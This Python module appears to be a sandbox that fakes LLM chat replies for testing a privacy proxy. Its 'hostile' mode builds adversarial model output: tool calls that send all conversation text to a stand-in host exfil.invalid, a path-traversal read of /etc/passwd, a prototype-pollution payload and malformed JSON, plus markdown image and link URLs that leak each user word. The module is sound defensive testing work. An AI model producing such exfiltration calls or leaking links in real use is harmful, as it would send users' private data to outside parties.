"""What the sandbox says: a pure function of the request and the step."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

import msgspec
from msgspec import Struct

from isthmus.sandbox.instance import make_instance
from isthmus.sandbox.request import ChatRequest, Function
from isthmus.sandbox.step import Call, Step
from isthmus.sandbox.words import Words

_INVENTED_TYPES = ("EMAIL", "PHONE", "IBAN", "CARD", "PERSON")
_CONSONANTS = "bcdfghjklmnpqrst"


class Reply(Struct, frozen=True):
    """One choice of the answer."""

    content: str | None
    finish: str
    refusal: str | None = None
    calls: tuple[Call, ...] = ()


def reply_to(request: ChatRequest, step: Step) -> Reply:
    if step.refusal is not None:
        return Reply(None, step.finish or "stop", refusal=step.refusal)
    calls = _calls(request, step)
    if calls:
        return Reply(step.text, step.finish or "tool_calls", calls=calls)
    text = _text(request, step)
    if step.invent:
        text = " ".join((text, *itertools.islice(invented(), step.invent)))
    if (short := step.size - len(text.encode())) > 0:
        filler = " sandbox"
        text += filler * -(-short // len(filler))
    return Reply(text, step.finish or "stop")


def invented() -> Iterator[str]:
    """Tokens that look like pseudonyms and are nobody's."""
    for number in itertools.count():
        letters = "".join(_CONSONANTS[(number + 7 * at) % 16] for at in range(20))
        yield f"{_INVENTED_TYPES[number % 5]}-{letters}"


def _calls(request: ChatRequest, step: Step) -> tuple[Call, ...]:
    if step.calls is not None:
        return step.calls
    functions = _chosen(request, step)
    if not functions or step.text is not None or step.style == "echo":
        return ()
    words = _words(request)
    if step.style == "hostile":
        return _hostile_calls(functions, words)
    return tuple(Call(function.name, _arguments(function, words)) for function in functions)


def _chosen(request: ChatRequest, step: Step) -> list[Function]:
    """The functions to call: those the request forces or, after a user's message, offers."""
    offered, choice = request.functions, request.tool_choice
    if not offered or choice == "none" or request.messages[-1].role == "tool":
        return []
    if isinstance(choice, dict):
        named = (choice.get("function") or {}).get("name")
        return [function for function in offered if function.name == named]
    if request.messages[-1].role != "user" and choice != "required":
        return []
    every = (step.parallel and request.parallel_tool_calls is not False) or step.style == "hostile"
    return offered if every else offered[:1]


def _words(request: ChatRequest) -> Words:
    return Words(m.text for m in reversed(request.messages) if m.role in ("user", "tool"))


def _arguments(function: Function, words: Words) -> str:
    return msgspec.json.encode(make_instance(function.parameters or {"type": "object"}, words)).decode()


def _hostile_calls(functions: list[Function], words: Words) -> tuple[Call, ...]:
    """The worst case: every tool with everything it saw, tools nobody offered, arguments that are traps."""
    everything = "\n".join(words.texts)
    loot = msgspec.json.encode({"url": "https://exfil.invalid/collect", "data": everything}).decode()
    honest = (Call(function.name, _arguments(function, words)) for function in functions)
    everywhere = (Call(function.name, _arguments(function, Words([everything]))) for function in functions)
    first = functions[0].name
    traps = (
        Call("shell", loot),
        Call("../admin", '{"path": "../../../../etc/passwd"}'),
        Call(first, loot),
        Call(first, '{"a": 1, "a": 2, "__proto__": {"admin": true}}'),
        Call(first, "{" + '"a": {' * 200),
        Call(first, '{"n": 1e999, "m": 123456789012345678901234567890}'),
        Call(first, "not JSON at all"),
        Call(first, ""),
        Call(first, "[]"),
    )
    return (*honest, *everywhere, *traps)


def _text(request: ChatRequest, step: Step) -> str:
    if step.text is not None:
        return step.text
    content = request.last_user_text
    if step.style == "echo":
        return content
    if (structured := _structured(request)) is not None:
        return structured
    if step.style == "hostile":
        return _exfiltration(_words(request))
    if results := _tool_results(request):
        return "[sandbox] The tool answered: " + "; ".join(results) + ". No real model has read this."
    if step.style == "forms":
        return _forms(request, content)
    return f"[sandbox] You wrote: {content} (A canned answer: no real model has read this.)"


def _structured(request: ChatRequest) -> str | None:
    wanted = request.response_format or {}
    words = _words(request)
    if wanted.get("type") == "json_schema":
        schema = (wanted.get("json_schema") or {}).get("schema") or {"type": "object"}
        return msgspec.json.encode(make_instance(schema, words)).decode()
    if wanted.get("type") == "json_object":
        answer = {"sandbox": True, "answer": "; ".join(_tool_results(request)) or words.whole}
        return msgspec.json.encode(answer).decode()
    return None


def _tool_results(request: ChatRequest) -> list[str]:
    last = itertools.takewhile(lambda message: message.role == "tool", reversed(request.messages))
    return [message.text for message in last][::-1]


def _forms(request: ChatRequest, content: str) -> str:
    """The content in every surrounding that restoring must survive."""
    quoted = msgspec.json.encode({"noted": content, content: [content]}).decode()
    earlier = [m.text for m in request.messages[:-1] if m.role == "user"]
    return (
        f"[sandbox] You wrote {content}, that is: “{content}”. Again ({content})! *{content}*, `{content}`; "
        f"[{content}](https://sandbox.invalid/?q={content}#{content}) {content}{content}\n"
        f"```json\n{quoted}\n```\n" + "".join(f"Earlier you wrote: {text}\n" for text in earlier) + content
    )


def _exfiltration(words: Words) -> str:
    everything = " ".join(words.texts)
    links = "".join(
        f"![x](https://exfil.invalid/p.png?d={word}) <https://exfil.invalid/{word}> "
        f'<img src="https://exfil.invalid/{word}"> [click](//exfil.invalid?{word}) '
        for word in words.each()
    )
    return f"[sandbox] {links}![all](https://exfil.invalid/?d={everything.replace(' ', '+')}) {everything}"
